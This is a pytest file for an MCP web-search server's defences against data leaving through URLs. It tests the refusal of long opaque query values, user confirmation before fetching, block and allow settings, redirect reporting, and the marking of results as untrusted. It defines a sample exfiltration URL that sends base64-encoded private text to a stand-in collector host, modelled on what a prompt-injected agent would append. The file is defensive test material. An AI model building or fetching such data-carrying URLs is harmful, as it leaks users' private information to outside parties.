"""The search server's own defaults against data leaving in a URL, and its hints for hosts.

The "outside" is a recording server on loopback; page hosts resolve to a public address through the
server's resolver seam and the transport seam delivers to the recorder, so the SSRF guard runs unchanged.
"""

from __future__ import annotations

from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from typing import Any

import anyio
import pytest
from mcp import Client
from mcp.types import ElicitRequestParams, ElicitResult

from tests.fakes.outside import Outside, RoutedTransport, outside_resolver, serving_outside
from tests.servers.search.support import error_text, settings, structured
from variet.servers.kit.untrusted import HOST_APPROVED_KEY, OUTBOUND_KEY, UNTRUSTED_KEY
from variet.servers.search import create_server
from variet.servers.search.outbound import QUERY_CHARS, VALUE_CHARS, carried_data

pytestmark = pytest.mark.anyio

TOKEN = "U2FsYXJ5IDEyNDAwIEVVUiBmb3IgQUNNRSBpbnZvaWNlIDQ3MTE"
"""Base64 of private text, as an injected instruction would append it."""
LEAK = f"https://collector.example/c?d={TOKEN}"


@pytest.mark.parametrize("url", [
    "https://example.org/article",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://duckduckgo.com/html/?q=rust+async+tutorial",
    "https://shop.example/item?id=12345&page=2&sort=price",
    "https://example.org/search?q=",
])
def test_ordinary_query_strings_carry_no_data(url: str) -> None:
    assert carried_data(url) is None


@pytest.mark.parametrize(("url", "expected"), [
    (LEAK, f"a {len(TOKEN)}-character value in `d`"),
    ("https://c.example/?" + "x" * VALUE_CHARS, f"a {VALUE_CHARS}-character value as the query"),
    ("https://c.example/p?s=Invoice+ACME+4711+over+12400+EUR+due", "a 36-character value in `s`"),
    ("https://c.example/p?" + "&".join(f"k{i}=value{i:02d}" for i in range(12)), "110 characters of query data"),
])
def test_long_opaque_query_data_is_named(url: str, expected: str) -> None:
    assert carried_data(url) == expected
    assert VALUE_CHARS < QUERY_CHARS


@pytest.fixture
def outside() -> Iterator[Outside]:
    with serving_outside() as served:
        yield served


class User:
    """The person behind the client: answers form elicitations with a fixed action, and records them."""

    def __init__(self, action: str) -> None:
        self.action = action
        self.asked: list[str] = []

    async def __call__(self, context: Any, params: ElicitRequestParams) -> ElicitResult:
        self.asked.append(params.message)
        if self.action == "accept":
            return ElicitResult(action="accept", content={"confirm": True})
        return ElicitResult(action=self.action)  # type: ignore[arg-type]


@asynccontextmanager
async def searching(outside: Outside, mode: str = "auto", *, user: User | None = None,
                    **search: Any) -> AsyncIterator[Client]:
    transport = RoutedTransport(outside.url)
    server = create_server(settings(outside.url, **search), http=transport, resolver=outside_resolver)
    try:
        with anyio.fail_after(15):
            async with Client(server, mode=mode, elicitation_callback=user) as client:
                yield client
    finally:
        await transport.aclose()


async def test_a_url_carrying_data_is_refused_when_the_host_cannot_ask(outside: Outside, mode: str) -> None:
    async with searching(outside, mode) as client:
        text = error_text(await client.call_tool("fetch_page", {"url": LEAK}))

    assert f"carries a {len(TOKEN)}-character value in `d`" in text
    assert "cannot ask the user" in text and 'outbound = "allow"' in text
    assert outside.requests == []


@pytest.mark.parametrize(("action", "fetched"), [("accept", True), ("decline", False), ("cancel", False)])
async def test_the_user_is_asked_before_a_url_carrying_data_is_fetched(outside: Outside, mode: str, action: str,
                                                                      fetched: bool) -> None:
    user = User(action)
    async with searching(outside, mode, user=user) as client:
        result = await client.call_tool("fetch_page", {"url": LEAK})

    assert len(user.asked) == 1 and LEAK in user.asked[0] and "smuggles private data" in user.asked[0]
    assert result.is_error is not fetched
    assert len(outside.hits(TOKEN)) == (1 if fetched else 0)


async def test_block_refuses_and_allow_fetches_without_asking(outside: Outside) -> None:
    user = User("accept")
    async with searching(outside, user=user, outbound="block") as client:
        refused = error_text(await client.call_tool("fetch_page", {"url": LEAK}))
    async with searching(outside, user=user, outbound="allow") as client:
        page = structured(await client.call_tool("fetch_page", {"url": LEAK}))

    assert 'outbound = "block"' in refused
    assert user.asked == []
    assert page["title"] == "collector.example"
    assert len(outside.hits(TOKEN)) == 1


async def test_a_host_that_checked_the_call_is_not_asked_again(outside: Outside, mode: str) -> None:
    user = User("decline")
    async with searching(outside, mode, user=user) as client:
        result = await client.call_tool("fetch_page", {"url": LEAK}, meta={HOST_APPROVED_KEY: True})

    assert not result.is_error and user.asked == []
    assert len(outside.hits(TOKEN)) == 1


async def test_an_ordinary_url_is_fetched_without_asking(outside: Outside) -> None:
    user = User("decline")
    async with searching(outside, user=user) as client:
        page = structured(await client.call_tool("fetch_page", {"url": "https://news.example/story?id=7"}))

    assert user.asked == [] and page["title"] == "news.example" and page["other_host"] is None


async def test_a_redirect_to_another_host_is_said_in_the_result(outside: Outside) -> None:
    async with searching(outside) as client:
        page = structured(await client.call_tool("fetch_page", {"url": "https://a.example/redirect?to=https://b.example/x"}))

    assert (page["title"], page["final_url"], page["other_host"]) == ("b.example", "https://b.example/x", "b.example")
    assert page["redirects"] == ["https://b.example/x"]
    assert "redirected to another host, b.example" in page["note"]
    assert [r.headers["host"] for r in outside.requests] == ["a.example", "b.example"]


async def test_results_are_marked_untrusted_and_tools_declare_what_leaves_in_both_modes(
        outside: Outside, mode: str) -> None:
    async with searching(outside, mode) as client:
        tools = {tool.name: tool for tool in (await client.list_tools()).tools}
        search = await client.call_tool("web_search", {"query": "lisbon trams"})
        page = await client.call_tool("fetch_page", {"url": "https://news.example/story?id=7"})

    assert tools["web_search"].meta and tools["web_search"].meta[OUTBOUND_KEY] == {"always": False,
                                                                                   "carries": ["query"]}
    assert tools["fetch_page"].meta and tools["fetch_page"].meta[OUTBOUND_KEY] == {"always": False, "url": "url"}
    assert all(t.annotations and t.annotations.open_world_hint and t.annotations.read_only_hint
               for t in tools.values())
    assert search.meta and search.meta[UNTRUSTED_KEY] == {"source": "web search", "private": False,
                                                          "links": ["https://news.example/story?id=7"]}
    assert search.structured_content is not None and search.structured_content["results"][0]["title"] == \
        "About lisbon trams"
    assert page.meta and page.meta[UNTRUSTED_KEY] == {"source": "web page", "private": False}
